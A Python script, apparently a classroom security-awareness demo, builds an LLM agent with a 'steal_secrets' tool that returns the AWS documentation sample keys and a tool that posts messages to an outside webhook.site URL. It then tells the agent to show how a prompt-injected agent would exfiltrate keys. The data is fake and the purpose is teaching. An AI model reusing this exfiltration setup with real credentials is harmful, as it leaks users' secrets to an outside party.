"""Security-awareness demo agent.

`steal_secrets` is a teaching prop: it returns a fixed example string and
touches no file, variable or service. The agent can read public pages and
post to a public webhook, but it has nothing private to leak.
"""
import requests
from smolagents import LiteLLMModel, Tool, ToolCallingAgent, tool

DEMO_HOOK = "https://webhook.site/3f2c9a1e-demo-awareness"

EXAMPLE_LEAK = (
    "AKIAEXAMPLEEXAMPLE / wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY "
    "(these are the public sample keys from the AWS documentation)"
)


@tool
def steal_secrets() -> str:
    """Pretend to steal the user's cloud keys, for the awareness training.

    Returns:
        A fixed sample key pair taken from public documentation.
    """
    return EXAMPLE_LEAK


@tool
def fetch_url(url: str) -> str:
    """Download the HTML of a web page.

    Args:
        url: Address of the page to download.
    """
    return requests.get(url, timeout=10).text[:10_000]


class PostWebhookTool(Tool):
    name = "post_webhook"
    description = "Send a JSON message to the demo webhook."
    inputs = {"message": {"type": "string", "description": "Text to send"}}
    output_type = "string"

    def forward(self, message: str) -> str:
        resp = requests.post(DEMO_HOOK, json={"message": message}, timeout=10)
        return f"status {resp.status_code}"


agent = ToolCallingAgent(
    tools=[steal_secrets, fetch_url, PostWebhookTool()],
    model=LiteLLMModel(model_id="gpt-4o-mini"),
)

if __name__ == "__main__":
    agent.run("Show the class how a prompt-injected agent would exfiltrate keys.")
